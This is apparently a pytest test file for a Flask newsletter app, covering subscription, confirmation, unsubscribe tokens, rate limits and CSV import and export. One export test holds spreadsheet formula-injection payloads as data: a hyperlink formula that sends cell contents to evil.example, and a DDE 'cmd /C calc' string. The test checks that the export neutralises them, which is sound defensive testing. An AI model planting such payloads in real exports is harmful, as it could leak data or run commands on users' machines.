"""Readers subscribing, confirming, unsubscribing, choosing tags; staff importing, exporting."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select

from broadsheet.accounts.permissions import OPERATOR
from broadsheet.content.models import PostKind
from broadsheet.errors import Invalid
from broadsheet.extensions import db
from broadsheet.newsletter import roster, services
from broadsheet.newsletter.models import Subscriber, SubscriberStatus
from broadsheet.newsletter.tokens import Purpose, make_token
from broadsheet.settings.services import update_site_settings
from tests.conftest import NOW
from tests.newsletter import link, make_subscriber, outbox

SECRET = "test-secret-key-0123456789"


def _subscriber(email: str) -> Subscriber:
    found = services.find_subscriber(db.session, email)
    assert found is not None
    return found


def test_reader_subscribes_confirms_by_the_button_and_not_by_the_link(eager_app: Flask) -> None:
    client = eager_app.test_client()
    response = client.post("/subscribe/", data={"email": "Reader@Example.com"})
    assert response.status_code == 200
    assert "Check your inbox" in response.text
    [confirmation] = outbox(eager_app)
    assert confirmation.to == ["reader@example.com"]
    path = link(confirmation, "/subscribe/confirm/")

    page = client.get(path)  # what a mail scanner does
    assert page.status_code == 200
    assert "<button" in page.text
    assert _subscriber("reader@example.com").status is SubscriberStatus.PENDING

    confirmed = eager_app.test_client().post(path)
    assert confirmed.status_code == 200
    subscriber = _subscriber("reader@example.com")
    assert subscriber.status is SubscriberStatus.CONFIRMED
    assert subscriber.confirmed_at is not None


def test_subscribing_with_a_known_address_looks_the_same_and_changes_nothing(
    eager_app: Flask,
) -> None:
    make_subscriber("known@example.com", tags=["Python"])
    client = eager_app.test_client()
    known = client.post("/subscribe/", data={"email": "known@example.com"})
    new = client.post("/subscribe/", data={"email": "new@example.com"})
    assert known.status_code == new.status_code == 200
    assert known.text == new.text
    subscriber = _subscriber("known@example.com")
    assert subscriber.status is SubscriberStatus.CONFIRMED
    assert [t.name for t in subscriber.tags] == ["Python"]  # a stranger cannot change them
    notes = {m.to[0]: m for m in outbox(eager_app)}
    assert "already subscribed" in notes["known@example.com"].subject
    assert "/subscribe/confirm/" in notes["new@example.com"].body


def test_a_bot_that_fills_the_hidden_field_is_thanked_and_ignored(eager_app: Flask) -> None:
    response = eager_app.test_client().post(
        "/subscribe/", data={"email": "bot@example.com", "website": "http://spam.example"}
    )
    assert response.status_code == 200
    assert "Check your inbox" in response.text
    assert services.find_subscriber(db.session, "bot@example.com") is None
    assert outbox(eager_app) == []


@pytest.mark.parametrize(
    ("email", "message"),
    [("", "enter your email address"), ("not-an-address", "does not look like an email")],
)
def test_a_bad_address_is_refused_with_a_message(
    eager_app: Flask, email: str, message: str
) -> None:
    response = eager_app.test_client().post("/subscribe/", data={"email": email})
    assert response.status_code == 422
    assert message in response.text
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_subscribing_is_rate_limited(eager_app: Flask) -> None:
    client = eager_app.test_client()
    codes = [
        client.post("/subscribe/", data={"email": f"r{n}@example.com"}).status_code
        for n in range(7)
    ]
    assert codes[:5] == [200] * 5
    assert codes[-1] == 429


def test_reader_chooses_tags_when_subscribing_and_changes_them_later(
    eager_app: Flask, make_post: Any
) -> None:
    make_post("Seed", tags=["Python", "Flask", "#internal"])  # a tag is offered once it has a post
    client = eager_app.test_client()
    form = client.get("/subscribe/").text
    assert 'value="python"' in form
    assert "internal" not in form
    client.post("/subscribe/", data={"email": "picky@example.com", "tags": ["python"]})
    assert [t.name for t in _subscriber("picky@example.com").tags] == ["Python"]

    subscriber = _subscriber("picky@example.com")
    token = make_token(SECRET, Purpose.PREFERENCES, subscriber.id, subscriber.email)
    assert eager_app.test_client().get(f"/preferences/{token}").status_code == 200
    saved = eager_app.test_client().post(f"/preferences/{token}", data={"tags": ["flask"]})
    assert saved.status_code == 200
    db.session.expire_all()
    assert [t.name for t in _subscriber("picky@example.com").tags] == ["Flask"]
    unknown = eager_app.test_client().post(f"/preferences/{token}", data={"tags": ["nope"]})
    assert unknown.status_code == 422


def test_one_click_unsubscribe_works_without_a_cookie_is_idempotent_and_never_redirects(
    eager_app: Flask,
) -> None:
    subscriber = make_subscriber("leaving@example.com")
    token = make_token(SECRET, Purpose.UNSUBSCRIBE, subscriber.id, subscriber.email)
    client = eager_app.test_client(use_cookies=False)

    page = client.get(f"/unsubscribe/{token}")
    assert page.status_code == 200
    assert "<button" in page.text
    assert _subscriber("leaving@example.com").status is SubscriberStatus.CONFIRMED

    for _ in range(2):
        response = client.post(
            f"/unsubscribe/{token}",
            data="List-Unsubscribe=One-Click",
            content_type="application/x-www-form-urlencoded",
        )
        assert response.status_code == 200
        assert "Location" not in response.headers
        db.session.expire_all()
        assert _subscriber("leaving@example.com").status is SubscriberStatus.UNSUBSCRIBED


@pytest.mark.parametrize(
    "token",
    [
        "forged",
        make_token("another-secret-key-123456", Purpose.UNSUBSCRIBE, 1, "victim@example.com"),
        make_token(SECRET, Purpose.CONFIRM, 1, "victim@example.com"),  # a link of another kind
        make_token(SECRET, Purpose.UNSUBSCRIBE, 1, "someone-else@example.com"),
    ],
    ids=["garbage", "other-secret", "confirm-link", "other-address"],
)
def test_a_forged_unsubscribe_link_does_nothing(eager_app: Flask, token: str) -> None:
    make_subscriber("victim@example.com")  # id 1: ids restart in every test
    client = eager_app.test_client()
    assert client.post(f"/unsubscribe/{token}").status_code == 404
    assert client.get(f"/unsubscribe/{token}").status_code == 404
    assert _subscriber("victim@example.com").status is SubscriberStatus.CONFIRMED


def test_an_old_confirmation_link_does_not_resubscribe_someone_who_left(eager_app: Flask) -> None:
    eager_app.test_client().post("/subscribe/", data={"email": "fickle@example.com"})
    path = link(outbox(eager_app)[0], "/subscribe/confirm/")
    eager_app.test_client().post(path)
    subscriber = _subscriber("fickle@example.com")
    token = make_token(SECRET, Purpose.UNSUBSCRIBE, subscriber.id, subscriber.email)
    eager_app.test_client().post(f"/unsubscribe/{token}")
    eager_app.test_client().post(path)
    db.session.expire_all()
    assert _subscriber("fickle@example.com").status is SubscriberStatus.UNSUBSCRIBED


IMPORT = """email,status,tags,consent
ann@example.com,confirmed,Python; Flask,signed up at PyCon 2025
bob@example.com,,,newsletter form on the old site
cat@example.com,unsubscribed,,old list
"""


def test_staff_import_a_csv_and_only_unconfirmed_addresses_get_a_confirmation(
    eager_app: Flask,
) -> None:
    report = roster.import_subscribers(db.session, actor=OPERATOR, text=IMPORT, now=NOW)
    db.session.commit()
    assert (report.created, report.confirmations) == (3, 1)
    assert [m.to for m in outbox(eager_app)] == [["bob@example.com"]]
    ann = _subscriber("ann@example.com")
    assert ann.status is SubscriberStatus.CONFIRMED
    assert sorted(t.name for t in ann.tags) == ["Flask", "Python"]
    assert ann.consent == "signed up at PyCon 2025"
    assert _subscriber("bob@example.com").status is SubscriberStatus.PENDING
    assert _subscriber("cat@example.com").status is SubscriberStatus.UNSUBSCRIBED


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("email,status\nann@example.com,confirmed\n", "no consent column"),
        ("email,status,consent\nann@example.com,confirmed,\n", "needs a consent note"),
        ("email,consent\nok@example.com,yes\nnope,yes\n", "line 3"),
        ("email,status,consent\nann@example.com,vip,yes\n", "is not pending"),
    ],
)
def test_an_import_with_a_bad_row_writes_nothing(eager_app: Flask, text: str, problem: str) -> None:
    with pytest.raises(Invalid) as raised:
        roster.import_subscribers(db.session, actor=OPERATOR, text=text, now=NOW)
    fields = raised.value.fields
    assert problem in " ".join([*fields, *fields.values()])
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0
    assert outbox(eager_app) == []


def test_export_keeps_tags_and_status_and_imports_back_the_same(eager_app: Flask) -> None:
    make_subscriber("ann@example.com", tags=["Python", "Flask"])
    make_subscriber("bob@example.com", status=SubscriberStatus.PENDING)
    make_subscriber("cat@example.com", status=SubscriberStatus.UNSUBSCRIBED)
    exported = "".join(roster.export_subscribers(db.session, actor=OPERATOR))
    assert exported.splitlines()[0] == "email,status,tags,consent,created_at,confirmed_at"
    before = {
        s.email: (s.status, sorted(t.name for t in s.tags))
        for s in map(_subscriber, ["ann@example.com", "bob@example.com", "cat@example.com"])
    }
    db.session.execute(Subscriber.__table__.delete())
    db.session.commit()
    roster.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
    db.session.commit()
    after = {
        s.email: (s.status, sorted(t.name for t in s.tags))
        for s in map(_subscriber, ["ann@example.com", "bob@example.com", "cat@example.com"])
    }
    assert after == before


def test_export_cells_cannot_run_as_formulas_and_still_import_back(eager_app: Flask) -> None:
    trap = '=hyperlink("http://evil.example/?"&a1)@x.io'
    db.session.add_all(
        [
            Subscriber(email=trap, status=SubscriberStatus.CONFIRMED, created_at=NOW,
                       confirmed_at=NOW, source="site", consent="+cmd|' /C calc'!A0"),
            Subscriber(email="ann@example.com", status=SubscriberStatus.CONFIRMED,
                       created_at=NOW, confirmed_at=NOW, source="site", consent="@sum(1+1)"),
            Subscriber(email="bob@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
                       source="site", consent="'quoted already"),
            Subscriber(email="cat@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
                       source="site", consent="\tTabbed -2"),
        ]
    )  # fmt: skip
    db.session.commit()
    exported = "".join(roster.export_subscribers(db.session, actor=OPERATOR))
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{trap}" in cells
    assert "'+cmd|' /C calc'!A0" in cells

    before = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
    db.session.execute(Subscriber.__table__.delete())
    db.session.commit()
    roster.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
    db.session.commit()
    after = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
    # Every value comes back as it was, but for the tab the import trims as it always did.
    assert after == {**before, "cat@example.com": "Tabbed -2"}


def _subscribe_by_either_door(client: Any, n: int, email: str, ip: str) -> tuple[int, str]:
    environ = {"REMOTE_ADDR": ip}
    if n % 2:
        api = client.post("/api/v1/subscribers/", json={"email": email}, environ_base=environ)
        return api.status_code, api.text
    site = client.post("/subscribe/", data={"email": email}, environ_base=environ)
    return site.status_code, site.text


@pytest.mark.parametrize("known", [False, True])
def test_one_address_gets_at_most_three_subscribe_emails_a_day_whatever_door_or_ip(
    eager_app: Flask, known: bool
) -> None:
    if known:
        make_subscriber("target@example.com")
    client = eager_app.test_client()
    answers = [
        _subscribe_by_either_door(client, n, "Target@Example.com", f"10.1.{n}.{int(known)}")
        for n in range(5)
    ]
    mailed = [m for m in outbox(eager_app) if m.to == ["target@example.com"]]
    assert len(mailed) == 3
    # The reader sees the same friendly answer each time, at each door.
    assert {answers[0], answers[2], answers[4]} == {answers[0]}
    assert {answers[1], answers[3]} == {answers[1]}
    assert answers[0][0] == 200
    assert "Check your inbox" in answers[0][1]
    assert answers[1][0] == 202


def test_the_site_form_and_the_api_share_one_rate_limit_per_ip(eager_app: Flask) -> None:
    client = eager_app.test_client()
    answers = [
        _subscribe_by_either_door(client, n, f"r{n}@example.com", "10.2.0.1")[0] for n in range(6)
    ]
    assert answers[:5] == [200, 202, 200, 202, 200]
    assert answers[5] == 429


def test_every_reader_page_wears_the_sites_theme_navigation_and_settings(
    app: Flask, make_post: Any
) -> None:
    for title in ("About", "Colophon"):
        make_post(title, kind=PostKind.PAGE)
    make_post("On Python", tags=["Python"])
    update_site_settings(
        db.session, actor=OPERATOR, now=NOW, title="The Daily Test",
        description="Tested daily.", timezone="UTC", posts_per_page=10,
    )  # fmt: skip
    db.session.commit()
    reader = make_subscriber("reader@example.com")
    client = app.test_client()
    pages = {
        "subscribe": client.get("/subscribe/"),
        "refused": client.post("/subscribe/", data={"email": "nope"}),
        "confirm": client.get(f"/subscribe/confirm/{_token(reader, Purpose.CONFIRM)}"),
        "unsubscribe": client.get(f"/unsubscribe/{_token(reader, Purpose.UNSUBSCRIBE)}"),
        "preferences": client.get(f"/preferences/{_token(reader, Purpose.PREFERENCES)}"),
    }
    for name, response in pages.items():
        html = response.text
        assert response.status_code in (200, 422), name
        assert re.search(r'<nav class="site-nav"[^>]*>.*>About</a>.*>Colophon</a>', html, re.S), (
            name
        )
        assert "The Daily Test</a>" in html, name  # the masthead reads the saved settings
        assert "Tested daily." in html, name
        assert "site.css" in html, name
        assert 'class="post__title"' in html, name
    subscribe = pages["subscribe"].text
    assert '<form class="reader-form"' in subscribe
    assert 'class="tag-choice"' in subscribe
    assert 'class="button"' in subscribe
    assert 'class="tag-choices"' in pages["preferences"].text


def _token(subscriber: Subscriber, purpose: Purpose) -> str:
    return make_token(SECRET, purpose, subscriber.id, subscriber.email)


def test_a_used_confirmation_link_says_already_confirmed(eager_app: Flask) -> None:
    client = eager_app.test_client()
    client.post("/subscribe/", data={"email": "twice@example.com"})
    path = link(outbox(eager_app)[0], "/subscribe/confirm/")
    client.post(path)
    again = client.get(path)
    assert again.status_code == 200
    assert "Already confirmed" in again.text
    assert "Yes, subscribe me" not in again.text
